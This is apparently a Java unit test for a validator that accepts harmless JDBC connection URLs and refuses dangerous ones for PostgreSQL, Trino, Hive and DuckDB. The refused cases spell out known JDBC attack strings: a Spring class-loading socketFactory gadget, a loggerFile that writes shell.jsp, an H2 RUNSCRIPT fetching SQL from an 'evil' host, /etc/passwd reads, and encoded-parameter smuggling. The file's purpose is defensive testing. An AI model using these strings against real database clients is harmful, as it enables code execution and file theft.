package org.probity.bias.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', textBlock = """
        POSTGRESQL | jdbc:postgresql://db.bank.example:5432/loans
        POSTGRESQL | jdbc:postgresql://one:5432,two:5432/loans?sslmode=verify-full&targetServerType=preferSecondary
        POSTGRESQL | jdbc:postgresql://[::1]:5432/loans
        TRINO      | jdbc:trino://lake:8443/hive/credit?SSL=true
        TRINO      | jdbc:trino://lake:8080
        SPARK      | jdbc:hive2://spark:10000/default;transportMode=http;httpPath=cliservice
        """)
    void anAddressWithHarmlessSettingsIsTaken(SqlDialect dialect, String url) {
        assertThat(JdbcAddress.problem(dialect, url)).isEmpty();
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', textBlock = """
        POSTGRESQL | jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext
        POSTGRESQL | jdbc:postgresql://db/x?sslfactory=evil.Factory
        POSTGRESQL | jdbc:postgresql://db/x?sslmode=require&loggerFile=/tmp/shell.jsp
        POSTGRESQL | jdbc:postgresql://db/x?authenticationPluginClassName=evil.Plugin
        POSTGRESQL | jdbc:postgresql://db/x?sslhostnameverifier=evil.Verifier
        POSTGRESQL | jdbc:postgresql://db/x?service=other
        POSTGRESQL | jdbc:postgresql://db/x?user=root&password=secret
        POSTGRESQL | jdbc:postgresql://db/x?socket%46actory=evil.Factory
        POSTGRESQL | jdbc:postgresql://db/x?SSL=true
        POSTGRESQL | jdbc:postgresql://db/x?ssl=true&ssl=false
        POSTGRESQL | jdbc:postgresql://db/x?ssl=%74rue
        POSTGRESQL | jdbc:postgresql://root:secret@db/x
        POSTGRESQL | jdbc:postgresql:x
        POSTGRESQL | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'
        POSTGRESQL | jdbc:trino://lake:8080
        TRINO      | jdbc:trino://lake:8080?dnsResolver=evil.Resolver
        TRINO      | jdbc:trino://lake:8080?SSL=true&accessToken=secret
        TRINO      | jdbc:trino://lake:8080?SSLTrustStorePath=/etc/passwd
        SPARK      | jdbc:hive2://spark:10000/default?hive.exec.pre.hooks=evil.Hook
        SPARK      | jdbc:hive2://spark:10000/default;sslTrustStore=/etc/passwd
        SPARK      | jdbc:hive2://spark:10000/default#x=y
        DUCKDB     | jdbc:duckdb:/etc/passwd
        """)
    void anAddressThatCouldDoMoreThanLeadToItsDatabaseIsRefused(SqlDialect dialect, String url) {
        assertThat(JdbcAddress.problem(dialect, url)).isPresent();
        assertThatThrownBy(() -> new JdbcAddress(dialect, url)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void theRefusedSettingIsNamed() {
        assertThat(JdbcAddress.problem(SqlDialect.POSTGRESQL, "jdbc:postgresql://db/x?socketFactory=evil.Factory"))
                .hasValueSatisfying(problem -> assertThat(problem)
                        .startsWith("has the setting socketFactory, which is not allowed")
                        .doesNotContain("evil.Factory"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "loans",
                "credit.loans",
                "hive.credit.loans",
                "credit.\"odd.na\"\"me\"",
                "a b.loans; DROP TABLE x"
            })
    void theNameOfATableIsReadAsItIsWritten(String name) {
        assertThat(TableName.parse(name)).hasToString(name);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", ".", "a.", ".a", "a.b.c.d", "\"a", "\"a\"b", "\"\"", "a.\"b\"c.d"})
    void whatIsNoNameOfATableIsRefused(String name) {
        assertThatThrownBy(() -> TableName.parse(name)).isInstanceOf(IllegalArgumentException.class);
    }
}
